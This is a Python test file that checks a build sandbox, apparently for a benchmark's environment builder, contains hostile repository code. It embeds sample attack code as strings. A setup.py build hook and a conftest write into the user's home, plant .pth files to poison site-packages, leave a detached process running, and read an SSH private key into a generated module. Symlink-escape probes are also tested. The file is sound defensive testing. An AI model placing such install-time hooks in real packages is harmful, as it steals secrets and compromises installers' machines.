"""A hostile repository's build code, run while its environment is built (envs/buildbox.py).

A dataset names the repository, so its setup.py and conftest.py are hostile (principle 9).
This repository's build (its build_ext: what the era's pip runs to install it over the
environment) and its conftest (run when the build collects the base
commit's tests) try to (a) write outside the build: the user's home, the swebounty cache and
the environment's site-packages (a .pth every task would run); (b) read a host secret and ship
it in the built package (a generated module every task's workspace gets); (c) leave a process
running. Run on the host, each succeeds; in the build sandbox, none does.
"""

from __future__ import annotations

import logging
import uuid
from datetime import datetime, timezone
from pathlib import Path

import pytest

from repo_helpers import git_repo
from security.leftovers import kill_marked, survivors
from swebounty.envs import buildbox
from swebounty.envs.failures import StepFailed
from swebounty.envs.steps import Uv
from swebounty.sandbox import bwrap_available

OK, WHY = bwrap_available()
needs_bwrap = pytest.mark.skipif(not OK, reason=f"no bubblewrap sandbox: {WHY}")

# What the repository's build code and conftest both run.
HOSTILE = """\
import os, subprocess, sys


def attack(where):
    for target in {targets!r}:
        try:
            with open(target + "." + where, "w") as f:
                f.write("written by the repository's " + where)
        except OSError:
            pass
    for entry in sys.path:  # the environment being built over: poison every task's imports
        if entry.endswith("site-packages") and "/envs/" in entry:
            try:
                with open(os.path.join(entry, "zz_poison_" + where + ".pth"), "w") as f:
                    f.write("import os\\n")
            except OSError:
                pass
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {marker!r}],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def steal():
    try:
        with open({secret!r}) as f:
            return f.read()
    except OSError as exc:
        return "nothing: " + str(exc)
"""
SETUP = """\
import os, sys
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import hostile


class built(build_ext):
    def run(self):
        hostile.attack("setup")
        with open(os.path.join(HERE, "cext", "_stolen.py"), "w") as f:
            f.write("STOLEN = %r\\n" % hostile.steal())
        build_ext.run(self)


setup(name="cext", version="0.1", packages=["cext"], cmdclass={"build_ext": built},
      ext_modules=[Extension("cext._fast", ["cext/_fast.c"])])
"""
C_SOURCE = """\
#include <Python.h>
static PyObject *one(PyObject *self, PyObject *args) { return PyLong_FromLong(1); }
static PyMethodDef methods[] = {{"one", one, METH_NOARGS, ""}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_fast", NULL, -1, methods};
PyMODINIT_FUNC PyInit__fast(void) { return PyModule_Create(&module); }
"""


@pytest.mark.sandbox
@pytest.mark.network
@needs_bwrap
def test_a_hostile_build_is_contained(tmp_path: Path, index_reachable: None) -> None:
    from env_helpers import build_env
    from swebounty.envs import EnvManager

    marker = f"swebounty-build-attack-{uuid.uuid4().hex}"
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = home / ".ssh" / "id_rsa"
    token = f"PRIVATE KEY {uuid.uuid4().hex}"
    secret.write_text(token + "\n")
    cache = tmp_path / "cache"
    targets = [str(home / "pwned"), str(cache / "pwned")]
    hostile = HOSTILE.format(targets=targets, marker=marker, secret=str(secret))
    files = {"hostile.py": hostile, "setup.py": SETUP, "cext/__init__.py": "",
             "conftest.py": "import hostile\n\nhostile.attack('conftest')\n",
             "cext/_fast.c": C_SOURCE,
             "tests/test_a.py": "from cext._fast import one\n\n\ndef test_one():\n"
                                "    assert one() == 1\n"}  # fmt: skip
    ws = git_repo(tmp_path / "ws", files)
    manager = EnvManager(cache)
    try:
        env = build_env(manager, ws, datetime(2024, 3, 1, tzinfo=timezone.utc), "h-1", "t/h")
        # The conftest ran in the build (the probe), and the build itself did.
        log = (cache / "specs" / (env.spec_key or "") / "build.log").read_text()
        assert "probe collection" in log and "install the project" in log
        alive = survivors(marker)
        written = sorted(str(p) for p in [*home.iterdir(), *cache.iterdir()] if "pwned" in p.name)
        poisoned = sorted(str(p) for p in cache.rglob("zz_poison_*"))
        leaked = sorted(
            str(p)
            for p in cache.rglob("*")
            if p.is_file() and not p.is_symlink() and token.encode() in p.read_bytes()
        )
        problems = [
            *([f"(a) the build wrote outside its folder: {written}"] if written else []),
            *([f"(a) the build wrote into the environment: {poisoned}"] if poisoned else []),
            *([f"(b) the host secret reached the cache: {leaked}"] if leaked else []),
            *([f"(c) processes outlived the build: {alive}"] if alive else []),
        ]
        assert not problems, "\n".join(problems)
        # The build ran (and built the extension), only contained: what it stole is nothing.
        assert env.project is not None and env.project.natives
        assert "cext/_stolen.py" in env.project.generated
        stolen = cache / "specs" / (env.spec_key or "") / "meta" / "_generated" / "cext"
        assert "nothing: [Errno 2] No such file" in (stolen / "_stolen.py").read_text()
        assert "probe collection (build sandbox)" in log
        assert "install the project (build sandbox)" in log
    finally:
        kill_marked(marker)


METADATA_SETUP = """\
import sys
from setuptools import setup

try:
    with open({target!r}, "a") as f:
        f.write(" ".join(sys.argv[1:2]) + "\\n")
except OSError:
    pass
setup(name="meta", version="0.1", packages=["meta"])
"""


@pytest.mark.sandbox
@pytest.mark.network
@needs_bwrap
def test_the_metadata_step_of_a_hostile_build_is_contained(
    tmp_path: Path, index_reachable: None
) -> None:
    """uv's resolution of ./project needs its metadata: setup.py runs for it (egg_info,
    dist_info) in the build sandbox (projectmeta.py), never on the host, where it could
    write into the home. On main before that, it wrote `pwned.metadata` there."""
    from env_helpers import build_env
    from swebounty.envs import EnvManager

    target = tmp_path / "home" / "pwned.metadata"
    target.parent.mkdir()
    files = {"setup.py": METADATA_SETUP.format(target=str(target)), "meta/__init__.py": "",
             "tests/test_a.py": "def test_a():\n    pass\n"}  # fmt: skip
    ws = git_repo(tmp_path / "ws", files)
    manager = EnvManager(tmp_path / "cache")
    env = build_env(manager, ws, datetime(2024, 3, 1, tzinfo=timezone.utc), "m-1", "t/meta")
    assert not target.exists(), f"setup.py ran on the host for: {target.read_text()}"
    log = (tmp_path / "cache" / "specs" / (env.spec_key or "") / "build.log").read_text()
    assert "prepare the project's metadata (build sandbox): exit 0" in log


def test_without_bubblewrap_builds_run_on_the_host_after_a_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """No user namespaces here: today's behaviour, never silently: one loud warning."""
    monkeypatch.setattr(buildbox, "bwrap_available", lambda: (False, "no user namespaces"))
    monkeypatch.setattr(buildbox, "_local", type(buildbox._local)())
    monkeypatch.setattr(buildbox, "_warned", False)
    log = tmp_path / "build.log"
    with caplog.at_level(logging.WARNING, logger="swebounty.envs.buildbox"):
        for _ in range(2):
            out = buildbox.run_step("say", ["/bin/sh", "-c", "echo on the host; pwd"], log,
                                    workdir=tmp_path, reads=[], env={"PATH": "/usr/bin:/bin"},
                                    timeout=30)  # fmt: skip
            assert out == f"on the host\n{tmp_path}\n"
    warned = [r.getMessage() for r in caplog.records if "UNSANDBOXED" in r.getMessage()]
    assert len(warned) == 1 and "no user namespaces" in warned[0], warned
    assert "setup.py" in warned[0] and "on this host" in warned[0]


@pytest.mark.sandbox
@needs_bwrap
def test_a_link_left_where_the_build_s_folder_was_is_not_mounted(tmp_path: Path) -> None:
    """A sandboxed step can write the build folder (the project's install works in it), so a
    later step's folder may be a link it left there, to a host folder: bwrap would mount the
    host folder in its place (writable, for a step's workdir). Refused, nothing runs."""
    host = tmp_path / "home"
    host.mkdir()
    build = tmp_path / "build"
    build.mkdir()
    (build / "project").symlink_to(host)
    (build / "layer").symlink_to(host)
    (build / "real").mkdir()
    argv = ["/bin/sh", "-c", "echo pwned > pwned"]
    env = {"PATH": "/usr/bin:/bin"}
    for workdir, reads in ((build / "project", []), (build / "real", [build / "layer"])):
        with pytest.raises(StepFailed, match="failed") as failed:
            buildbox.run_step("probe collection", argv, tmp_path / "log", workdir=workdir,
                              reads=reads, env=env, timeout=30)  # fmt: skip
        assert "is a link, not the build's folder" in failed.value.output
    assert not (host / "pwned").exists() and not (build / "real" / "pwned").exists()


def test_the_harness_writes_no_file_of_the_build_folder_through_a_link(tmp_path: Path) -> None:
    """Its inputs for uv (constraints, excludes) are written where a sandboxed step could
    have left links to host files: written as new regular files, the host files untouched."""
    fake_uv = tmp_path / "uv"
    fake_uv.write_text("#!/bin/sh\necho six==1.0\n")
    fake_uv.chmod(0o755)
    victim = tmp_path / "victim"
    victim.write_text("the host's\n")
    for name in ("era-constraints.txt", "excludes.txt"):
        (tmp_path / name).symlink_to(victim)
    req = tmp_path / "requirements.in"
    req.write_text("six\n")
    uvr = Uv(fake_uv, tmp_path / "build.log", offline=True)
    when = datetime(2015, 1, 1, tzinfo=timezone.utc)
    out = uvr.compile(Path("/usr/bin/python3"), req, when, cwd=tmp_path, excludes=["nose"])
    assert out == "six==1.0\n"
    assert victim.read_text() == "the host's\n"
    assert (tmp_path / "excludes.txt").read_text() == "nose\n"
    assert not (tmp_path / "era-constraints.txt").is_symlink()
